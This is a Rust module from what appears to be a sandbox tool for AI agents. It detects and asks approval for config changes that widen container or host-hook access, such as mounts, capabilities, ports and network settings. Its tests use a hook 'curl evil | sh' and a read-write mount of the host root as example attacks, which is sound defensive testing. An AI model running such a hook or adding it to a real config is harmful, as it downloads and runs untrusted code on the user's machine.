//! Config trust: the agent can edit `.alca.toml` from inside the container, so the effective
//! config the user approved is recorded outside every workspace and any change that widens what
//! the container (or a host hook) may do needs the user's approval before `up` applies it.

use std::collections::BTreeSet;
use std::fmt;
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};

use alca_netd::lan::parse_lan_entry;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::config::{Caps, Config};

/// Every Linux capability name, for turning a `{drop, add}` pair into an effective set.
const ALL_CAPS: [&str; 41] = [
    "CHOWN",
    "DAC_OVERRIDE",
    "DAC_READ_SEARCH",
    "FOWNER",
    "FSETID",
    "KILL",
    "SETGID",
    "SETUID",
    "SETPCAP",
    "LINUX_IMMUTABLE",
    "NET_BIND_SERVICE",
    "NET_BROADCAST",
    "NET_ADMIN",
    "NET_RAW",
    "IPC_LOCK",
    "IPC_OWNER",
    "SYS_MODULE",
    "SYS_RAWIO",
    "SYS_CHROOT",
    "SYS_PTRACE",
    "SYS_PACCT",
    "SYS_ADMIN",
    "SYS_BOOT",
    "SYS_NICE",
    "SYS_RESOURCE",
    "SYS_TIME",
    "SYS_TTY_CONFIG",
    "MKNOD",
    "LEASE",
    "AUDIT_WRITE",
    "AUDIT_CONTROL",
    "SETFCAP",
    "MAC_OVERRIDE",
    "MAC_ADMIN",
    "SYSLOG",
    "WAKE_ALARM",
    "BLOCK_SUSPEND",
    "AUDIT_READ",
    "PERFMON",
    "BPF",
    "CHECKPOINT_RESTORE",
];

/// One difference between the approved and the current config that widens access.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Widening {
    /// The config field, as written in `.alca.toml` (`hooks.post_up`, `mounts`, …).
    pub field: &'static str,
    /// What changed, in plain words.
    pub detail: String,
}

impl fmt::Display for Widening {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.field, self.detail)
    }
}

/// The outcome of comparing the current config with the approved record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Identical to what was approved.
    Trusted,
    /// Changed, but nothing widens access: safe to apply and re-record.
    Narrowed,
    /// Never approved on this machine.
    New,
    /// These changes need approval.
    Widened(Vec<Widening>),
}

/// What is stored per project outside the workspace.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Record {
    pub project_path: PathBuf,
    pub digest: String,
    pub config: Config,
}

/// Compares `current` against the approved record (if any).
pub fn assess(approved: Option<&Config>, current: &Config) -> Verdict {
    let Some(approved) = approved else {
        return Verdict::New;
    };
    if digest(approved) == digest(current) {
        return Verdict::Trusted;
    }
    let widenings = widenings(approved, current);
    if widenings.is_empty() {
        Verdict::Narrowed
    } else {
        Verdict::Widened(widenings)
    }
}

/// Lists every change from `old` to `new` that gives the container or the host hooks more reach.
pub fn widenings(old: &Config, new: &Config) -> Vec<Widening> {
    let mut out = Vec::new();
    let mut push = |field, detail: String| out.push(Widening { field, detail });
    if old.image != new.image {
        push("image", format!("{:?} → {:?}", old.image, new.image));
    }
    if old.runtime != new.runtime {
        push("runtime", format!("{:?} → {:?}", old.runtime, new.runtime));
    }
    for (field, a, b) in [
        ("hooks.post_up", &old.hooks.post_up, &new.hooks.post_up),
        ("hooks.pre_down", &old.hooks.pre_down, &new.hooks.pre_down),
    ] {
        if let Some(cmd) = b.as_ref().filter(|b| Some(*b) != a.as_ref()) {
            push(field, format!("runs on the host: {cmd}"));
        }
    }
    mount_widenings(old, new, &mut push);
    for pattern in removed(&old.workdir_exclude, &new.workdir_exclude) {
        push("workdir_exclude", format!("no longer hides {pattern:?}"));
    }
    for cap in added(&effective_caps(&old.caps), &effective_caps(&new.caps)) {
        push("caps", format!("adds capability {cap}"));
    }
    resource_widenings(old, new, &mut push);
    for port in added(&port_set(old), &port_set(new)) {
        push("ports", format!("publishes {port}"));
    }
    for entry in added(&lan_set(old), &lan_set(new)) {
        push("network.lan-access", format!("allows {entry:?}"));
    }
    if old.network.proxy_raw != new.network.proxy_raw {
        push(
            "network.proxy",
            format!("{:?} → {:?}", old.network.proxy_raw, new.network.proxy_raw),
        );
    }
    out
}

fn mount_widenings(old: &Config, new: &Config, push: &mut impl FnMut(&'static str, String)) {
    for m in &new.mounts {
        let before = old
            .mounts
            .iter()
            .find(|o| o.source == m.source && o.target == m.target);
        match before {
            None => push(
                "mounts",
                format!(
                    "mounts host {} at {}{}",
                    m.source.display(),
                    m.target,
                    if m.readonly {
                        " (read-only)"
                    } else {
                        " (read-write)"
                    }
                ),
            ),
            Some(o) => {
                if o.readonly && !m.readonly {
                    push("mounts", format!("{} becomes writable", m.target));
                }
                for pattern in removed(&o.exclude, &m.exclude) {
                    push(
                        "mounts",
                        format!("{} no longer hides {pattern:?}", m.target),
                    );
                }
            }
        }
    }
}

fn resource_widenings(old: &Config, new: &Config, push: &mut impl FnMut(&'static str, String)) {
    let (om, nm) = (&old.resources.memory, &new.resources.memory);
    if om.is_some() && om != nm {
        let grows = match (
            om.as_deref().and_then(memory_bytes),
            nm.as_deref().and_then(memory_bytes),
        ) {
            (Some(a), Some(b)) => b > a,
            _ => true,
        };
        if grows {
            push("resources.memory", format!("{om:?} → {nm:?}"));
        }
    }
    let (oc, nc) = (old.resources.cpus, new.resources.cpus);
    if let Some(a) = oc {
        if nc.is_none_or(|b| b > a) {
            push("resources.cpus", format!("{oc:?} → {nc:?}"));
        }
    }
}

/// `512m`, `4g`, `1024` → bytes (docker syntax); `None` when unparsable.
fn memory_bytes(s: &str) -> Option<u128> {
    let s = s.trim().to_ascii_lowercase();
    let s = s.strip_suffix('b').unwrap_or(&s);
    let (num, mult) = match s.chars().last()? {
        'k' => (&s[..s.len() - 1], 1u128 << 10),
        'm' => (&s[..s.len() - 1], 1 << 20),
        'g' => (&s[..s.len() - 1], 1 << 30),
        't' => (&s[..s.len() - 1], 1 << 40),
        _ => (s, 1),
    };
    num.trim().parse::<u128>().ok().map(|n| n * mult)
}

/// The capabilities a container ends up with for a `{drop, add}` pair.
pub fn effective_caps(caps: &Caps) -> BTreeSet<String> {
    let norm = |c: &String| {
        c.trim()
            .to_ascii_uppercase()
            .trim_start_matches("CAP_")
            .to_string()
    };
    let drop: BTreeSet<String> = caps.drop.iter().map(norm).collect();
    let add: BTreeSet<String> = caps.add.iter().map(norm).collect();
    let base: BTreeSet<String> = if drop.contains("ALL") {
        BTreeSet::new()
    } else {
        ALL_CAPS
            .iter()
            .map(|c| c.to_string())
            .filter(|c| !drop.contains(c))
            .collect()
    };
    if add.contains("ALL") {
        return ALL_CAPS.iter().map(|c| c.to_string()).collect();
    }
    base.union(&add).cloned().collect()
}

fn port_set(c: &Config) -> BTreeSet<String> {
    c.ports
        .iter()
        .map(|p| {
            let ip = p
                .host_ip
                .map(|ip| ip.to_string())
                .unwrap_or_else(|| "0.0.0.0".into());
            let host = p
                .host_port
                .map(|p| p.to_string())
                .unwrap_or_else(|| "*".into());
            format!("{ip}:{host} → {}/{:?}", p.container_port, p.proto).to_lowercase()
        })
        .collect()
}

/// lan-access entries in a canonical form (parsed when possible, raw otherwise).
fn lan_set(c: &Config) -> BTreeSet<String> {
    c.network
        .lan_access_raw
        .iter()
        .map(|raw| match parse_lan_entry(raw) {
            Ok(entry) => format!("{entry:?}"),
            Err(_) => raw.clone(),
        })
        .collect()
}

fn added<T: Ord + Clone>(old: &BTreeSet<T>, new: &BTreeSet<T>) -> Vec<T> {
    new.difference(old).cloned().collect()
}

fn removed(old: &[String], new: &[String]) -> Vec<String> {
    old.iter().filter(|p| !new.contains(p)).cloned().collect()
}

/// A stable digest of the effective config.
pub fn digest(config: &Config) -> String {
    let json = serde_json::to_vec(config).unwrap_or_default();
    let hash = Sha256::digest(&json);
    hash.iter().map(|b| format!("{b:02x}")).collect()
}

/// Where trust records live: `$XDG_STATE_HOME/alcatraz/trust` (default `~/.local/state/…`),
/// outside every workspace.
pub fn store_dir() -> Option<PathBuf> {
    let base = std::env::var_os("XDG_STATE_HOME")
        .filter(|v| !v.is_empty())
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".local/state")))?;
    Some(base.join("alcatraz").join("trust"))
}

/// The record file of a project, keyed by a digest of its canonical path (the project id lives in
/// the workspace, which the agent can write; the path it cannot change from inside).
fn record_path(dir: &Path, project_root: &Path) -> PathBuf {
    let canonical = project_root
        .canonicalize()
        .unwrap_or_else(|_| project_root.to_path_buf());
    let hash = Sha256::digest(canonical.as_os_str().as_encoded_bytes());
    let name: String = hash.iter().take(16).map(|b| format!("{b:02x}")).collect();
    dir.join(format!("{name}.json"))
}

/// Reads the approved config of a project, if any. A corrupt record counts as none.
pub fn load_approved(dir: &Path, project_root: &Path) -> Option<Config> {
    let text = fs::read_to_string(record_path(dir, project_root)).ok()?;
    let record: Record = serde_json::from_str(&text).ok()?;
    Some(record.config)
}

/// Records `config` as approved for the project (atomic write, private to the user).
pub fn approve(dir: &Path, project_root: &Path, config: &Config) -> std::io::Result<()> {
    fs::create_dir_all(dir)?;
    let record = Record {
        project_path: project_root.to_path_buf(),
        digest: digest(config),
        config: config.clone(),
    };
    let json = serde_json::to_vec_pretty(&record).map_err(std::io::Error::other)?;
    let mut tmp = tempfile::NamedTempFile::new_in(dir)?;
    tmp.write_all(&json)?;
    tmp.as_file().sync_all()?;
    tmp.persist(record_path(dir, project_root))
        .map_err(|e| e.error)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{Mount, Network};

    fn base() -> Config {
        Config {
            image: "alpine:latest".into(),
            workdir: "/workspace".into(),
            workdir_exclude: vec!["**/.env".into()],
            runtime: Default::default(),
            mounts: vec![Mount {
                source: "/data".into(),
                target: "/data".into(),
                readonly: true,
                exclude: vec![],
            }],
            commands: Default::default(),
            resources: Default::default(),
            envs: Default::default(),
            caps: Caps::default(),
            ports: vec![],
            network: Network::default(),
            hooks: Default::default(),
            sources: vec![],
        }
    }

    fn fields(old: &Config, new: &Config) -> Vec<&'static str> {
        widenings(old, new).into_iter().map(|w| w.field).collect()
    }

    #[test]
    fn identical_configs_are_trusted_and_new_ones_are_new() {
        assert_eq!(assess(Some(&base()), &base()), Verdict::Trusted);
        assert_eq!(assess(None, &base()), Verdict::New);
    }

    #[test]
    fn host_hooks_widen() {
        let mut new = base();
        new.hooks.post_up = Some("curl evil | sh".into());
        assert_eq!(fields(&base(), &new), ["hooks.post_up"]);
        let mut old = base();
        old.hooks.pre_down = Some("echo bye".into());
        assert!(fields(&old, &base()).is_empty(), "removing a hook narrows");
    }

    #[test]
    fn mounts_widen_when_added_made_writable_or_unfiltered() {
        let mut new = base();
        new.mounts.push(Mount {
            source: "/".into(),
            target: "/host".into(),
            readonly: false,
            exclude: vec![],
        });
        assert_eq!(fields(&base(), &new), ["mounts"]);
        let mut new = base();
        new.mounts[0].readonly = false;
        assert_eq!(fields(&base(), &new), ["mounts"]);
        let mut old = base();
        old.mounts[0].exclude = vec!["*.key".into()];
        assert_eq!(fields(&old, &base()), ["mounts"]);
        let mut new = base();
        new.mounts.clear();
        assert!(fields(&base(), &new).is_empty(), "removing a mount narrows");
    }

    #[test]
    fn caps_widen_only_when_the_effective_set_grows() {
        let mut new = base();
        new.caps.add.push("SYS_ADMIN".into());
        assert_eq!(
            widenings(&base(), &new)[0].detail,
            "adds capability SYS_ADMIN"
        );
        let mut narrower = base();
        narrower.caps.add.retain(|c| c != "KILL");
        assert!(fields(&base(), &narrower).is_empty());
        let mut verbatim = base();
        verbatim.caps = Caps {
            drop: vec![],
            add: vec![],
        };
        assert!(
            fields(&base(), &verbatim).contains(&"caps"),
            "dropping nothing keeps all caps"
        );
    }

    #[test]
    fn network_and_excludes_widen() {
        let mut new = base();
        new.network.lan_access_raw = vec!["*".into()];
        assert_eq!(fields(&base(), &new), ["network.lan-access"]);
        let mut new = base();
        new.network.proxy_raw = Some("10.0.0.1:3128".into());
        assert_eq!(fields(&base(), &new), ["network.proxy"]);
        let mut new = base();
        new.workdir_exclude.clear();
        assert_eq!(fields(&base(), &new), ["workdir_exclude"]);
        let mut new = base();
        new.workdir_exclude.push("**/*.pem".into());
        assert!(fields(&base(), &new).is_empty(), "more excludes narrow");
    }

    #[test]
    fn image_runtime_and_resources() {
        let mut old = base();
        old.resources.memory = Some("512m".into());
        old.resources.cpus = Some(1.0);
        let mut new = old.clone();
        new.resources.memory = Some("256m".into());
        new.resources.cpus = Some(0.5);
        assert!(fields(&old, &new).is_empty());
        new.resources.memory = None;
        new.resources.cpus = Some(4.0);
        assert_eq!(fields(&old, &new), ["resources.memory", "resources.cpus"]);
        let mut new = base();
        new.image = "evil:latest".into();
        new.runtime = crate::config::RuntimeChoice::Podman;
        assert_eq!(fields(&base(), &new), ["image", "runtime"]);
    }

    #[test]
    fn records_round_trip_outside_the_workspace() {
        let dir = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        assert!(load_approved(dir.path(), project.path()).is_none());
        approve(dir.path(), project.path(), &base()).unwrap();
        let approved = load_approved(dir.path(), project.path()).unwrap();
        assert_eq!(assess(Some(&approved), &base()), Verdict::Trusted);
        let mut narrower = base();
        narrower.mounts.clear();
        assert_eq!(assess(Some(&approved), &narrower), Verdict::Narrowed);
    }
}
